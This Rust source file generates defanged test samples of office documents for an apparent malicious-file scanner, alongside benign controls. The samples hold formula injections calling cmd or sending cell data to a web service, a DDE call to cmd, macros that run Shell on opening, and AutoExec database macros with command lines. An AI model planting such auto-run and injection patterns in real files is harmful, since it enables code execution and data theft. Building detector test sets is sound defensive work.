//! Documents of other office programs, tables as text, queries.

use crate::office::access::{Database, Kind, Value};
use crate::office::cfb::Cfb;
use crate::office::hwp::{Hwp, hwpx};
use crate::office::macros::ticket_project;
use crate::office::odf::Document;
use crate::office::onenote::Section;
use crate::office::ooxml::Package;
use crate::office::vba::compress;
use crate::{Sample, mark};

/// The samples of this group.
pub(super) fn all() -> Vec<Sample> {
    [tables(), open_documents(), hangul_documents(), databases(), fixed_pages_and_notes()]
        .into_iter()
        .flatten()
        .collect()
}

fn sample(id: &'static str, file_name: &'static str, about: &'static str, make: fn() -> Vec<u8>) -> Sample {
    Sample { id, file_name, about, make }
}

fn tables() -> Vec<Sample> {
    vec![
        sample("fo4-csv-wide", "名簿.csv", "a cell that calls a program in full-width letters behind a tab", || {
            "name;value\r\nYamada;1\r\nSuzuki;\"\t＝ｃｍｄ｜'／c rem harmless-none'！Ａ０\"\r\n".into()
        }),
        sample("fo4-csv-web", "名簿.csv", "cells that send others to a web server", || {
            let cell = "\"=WEBSERVICE(\"\"http://example.com/s/csv?\"\"&A2)\"";
            format!("name,value\r\n{},1\r\nSuzuki,{cell}\r\n", mark("fo4-csv-web")).into()
        }),
        sample("b-csv-near", "在庫.csv", "numbers, phones, addresses and texts that start as formulas do", || {
            "品目,数量,連絡先\r\nA,-1.5,+81-3-0000-0000\r\nB,-,@example\r\nC,=A1+B1,info@example.com\r\nD,5a|b!c,－（別紙）\r\n"
                .into()
        }),
        sample("fo5-odc", "売上.odc", "a data connection whose source is a web address", || {
            let connection = "Provider=MSDASQL;Data Source=http://192.0.2.30/q;Persist Security Info=False";
            format!(
                "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\"><head><meta name=ProgId content=ODC.Table>\r\n\
                 <title>{}</title><xml id=msodc><odc:OfficeDataConnection \
                 xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><odc:Connection odc:Type=\"OLEDB\">\
                 <odc:ConnectionString>{connection}</odc:ConnectionString><odc:CommandType>Table</odc:CommandType>\
                 <odc:CommandText>sales</odc:CommandText></odc:Connection></odc:OfficeDataConnection></xml></head>\
                 <body></body></html>\r\n",
                mark("fo5-odc")
            )
            .into()
        }),
        sample("fo5-dqy", "売上.dqy", "a query of a database server inside the company", || {
            b"XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=SQL01;DATABASE=sales\r\nSELECT * FROM sales\r\n".to_vec()
        }),
    ]
}

const MACRO: &str =
    "REM  *****  BASIC  *****\n\nSub Main\n  REM HARMLESS-SAMPLE/1 fo35\n  Shell(\"harmless-none.exe\", 1)\nEnd Sub\n";
const OWN: &str = "vnd.sun.star.script:Standard.Module1.Main?language=Basic&location=document";

fn open_documents() -> Vec<Sample> {
    vec![
        sample("fo35-open", "申請書.odt", "a macro that starts a program when the document is opened", || {
            Document::new("text", "申請書").module("Module1", MACRO).event("dom:load", OWN).build()
        }),
        sample("fo35-flat", "申請書.fodt", "the same in one XML file", || {
            Document::new("text", "申請書").module("Module1", MACRO).event("dom:load", OWN).flat()
        }),
        sample("fo35-climb", "案内図.odg", "a pointer's event that starts a script outside the document", || {
            let target = "vnd.sun.star.script:../../../program/none/none.py$none?language=Python&location=share";
            Document::new("graphics", "案内図").event("dom:mouseover", target).build()
        }),
        sample("fo35-command", "手順書.odt", "a frame whose target is a command of the office program", || {
            let frame = "<draw:frame><draw:floating-frame xlink:href=\"macro:///Standard.None.None()\"/></draw:frame>";
            Document::new("text", "手順書").body(frame).build()
        }),
        sample("fo35-remote", "報告書.odt", "a section that lies on a web server at a bare address", || {
            let section = "<text:section><text:section-source xlink:href=\"http://192.0.2.31/s.odt\"/></text:section>";
            Document::new("text", "報告書").body(section).build()
        }),
        sample("fo35-dde", "相場.ods", "a cell that asks a command interpreter for data", || {
            Document::new("spreadsheet", "").formula("of:=DDE(\"cmd\";\"/c rem none\";\"x\")").build()
        }),
        sample("fo35-locked", "給与.ods", "a spreadsheet whose parts are encrypted", || {
            Document::new("spreadsheet", "").locked().build()
        }),
        sample("b-odt-plain", "議事録.odt", "an honest text with a link, a picture and a button's macro", || {
            let link = "<text:a xlink:href=\"https://www.example.com/\">example</text:a>\
                        <draw:image xlink:href=\"Pictures/1.jpg\"/>";
            Document::new("text", "議事録")
                .body(link)
                .module("Module1", "REM  *****  BASIC  *****\nSub Main\n  MsgBox \"OK\"\nEnd Sub\n")
                .event("dom:click", OWN)
                .entry("Pictures/1.jpg", crate::media::jpeg())
                .build()
        }),
    ]
}

fn hangul_documents() -> Vec<Sample> {
    vec![
        sample("fo31-hwp-eps", "회의자료.hwp", "a picture that is PostScript", || {
            Hwp::new("회의자료")
                .binary("BIN0001.eps", format!("%!PS-Adobe-3.0 EPSF-3.0\n% {}\n", mark("fo31-hwp-eps")).as_bytes())
                .build()
        }),
        sample(
            "fo31-hwp-link",
            "신청서.hwp",
            "a link that starts a program in the temporary folder, and a script",
            || {
                Hwp::new("신청서")
                    .link("..\\AppData\\Local\\Temp\\harmless-none.exe;1;0;0;")
                    .script("function OnDocument_Open()\r\n{\r\n\tvar x = 1;\r\n}\r\n")
                    .build()
            },
        ),
        sample("fo31-hwp-locked", "급여.hwp", "a document locked with a password", || {
            Hwp::new("급여").flags(2).build()
        }),
        sample("b-hwp-sealed", "공고.hwp", "an honest document kept for reading only", || {
            Hwp::new("공고").link("https\\://www.example.com/;1;0;0;").sealed().build()
        }),
        sample("b-hwp-plain", "공지.hwp", "an honest document with a picture and a link", || {
            Hwp::new("공지사항")
                .link("https\\://www.example.com/;1;0;0;")
                .binary("BIN0001.jpg", &crate::media::jpeg())
                .build()
        }),
        sample("b-hwpx-plain", "공지.hwpx", "an honest document as a zip", || hwpx("공지사항", &[])),
    ]
}

fn databases() -> Vec<Sample> {
    vec![
        sample(
            "fo29-mdb",
            "顧客管理.mdb",
            "a project that fetches and runs, in rows, and a macro that runs on opening",
            || Database::new().storage(&project("fo29-mdb")).object("AutoExec", -32_766).build(),
        ),
        sample("fo29-mdb2000", "顧客管理.mdb", "the same project in a compound file cut into rows", || {
            let file = ticket_project("fo29-mdb2000")
                .streams()
                .into_iter()
                .fold(Cfb::new(), |file, (path, data)| file.stream(&format!("VBA/VBAProject/{path}"), data));
            Database::new().pieces(&file.build()).build()
        }),
        sample("fo29-macro", "受付.accdb", "a macro that runs on opening and is given a command line", || {
            let blob: Vec<u8> = "cmd.exe /c rem harmless-none".encode_utf16().flat_map(u16::to_le_bytes).collect();
            Database::new().ace().storage(&[("Scripts/0/Blob".to_owned(), blob)]).object("AutoExec", -32_766).build()
        }),
        sample("fo29-accde", "見積.accde", "modules without source", || {
            let streams: Vec<(String, Vec<u8>)> = vec![
                ("VBA/VBAProject/VBA/dir".to_owned(), compress(b"\x01\0\x04\0\0\0\x03\0\0\0")),
                (
                    "VBA/VBAProject/VBA/Module1".to_owned(),
                    [vec![0x55; 3_000], mark("fo29-accde").into_bytes()].concat(),
                ),
            ];
            Database::new().ace().storage(&streams).build()
        }),
        sample("fo29-link", "在庫.accdb", "a table that lies on a share beyond the network", || {
            Database::new().ace().linked("在庫", ";DATABASE=\\\\192.0.2.32\\s\\a.accdb").build()
        }),
        sample("b-accdb-plain", "住所録.accdb", "an honest table with texts and a picture", || {
            Database::new()
                .ace()
                .table(
                    "住所録",
                    &[("No", Kind::Long), ("氏名", Kind::Text), ("備考", Kind::Memo), ("写真", Kind::Ole)],
                    vec![vec![
                        Value::Long(1),
                        Value::Text("山田".to_owned()),
                        Value::Memo("https://www.example.com/".to_owned()),
                        Value::Ole(crate::media::jpeg()),
                    ]],
                )
                .linked("旧台帳", ";DATABASE=C:\\data\\old.mdb")
                .build()
        }),
    ]
}

fn fixed_pages_and_notes() -> Vec<Sample> {
    vec![
        sample(
            "fo30-packaged",
            "航空券.one",
            "a section kept as a package of elements, with a web application in it",
            || {
                let page =
                    format!("<hta:application><script language=\"vbscript\">' {}</script>", mark("fo30-packaged"));
                Section::new().picture("jpg", &crate::media::jpeg()).file("航空券.hta", page.as_bytes()).packaged()
            },
        ),
        sample("b-xps-plain", "図面.xps", "honest pages with a link", || {
            let page = "<FixedPage xmlns=\"http://schemas.microsoft.com/xps/2005/06\" Width=\"1\" Height=\"1\" \
                        xml:lang=\"ja\"><Path FixedPage.NavigateUri=\"https://www.example.com/\"/></FixedPage>";
            Package::default()
                .part(
                    "FixedDocSeq.fdseq",
                    "application/vnd.ms-package.xps-fixeddocumentsequence+xml",
                    "<FixedDocumentSequence/>",
                )
                .part("Documents/1/Pages/1.fpage", "application/vnd.ms-package.xps-fixedpage+xml", page)
                .relation(
                    "",
                    "http://schemas.microsoft.com/xps/2005/06/fixedrepresentation",
                    "/FixedDocSeq.fdseq",
                    false,
                )
                .build()
        }),
        sample("fo31-jtd", "通知.jtd", "a document of Ichitaro, of which only runs of text are read", || {
            let mut stream = b"SsmgV.01\0\0\0\x01".to_vec();
            stream.extend("通知 https://example.com/s/jtd".encode_utf16().flat_map(u16::to_be_bytes));
            Cfb::new().stream("DocumentText", stream).build()
        }),
    ]
}

fn project(id: &str) -> Vec<(String, Vec<u8>)> {
    ticket_project(id).streams().into_iter().map(|(path, data)| (format!("VBA/VBAProject/{path}"), data)).collect()
}
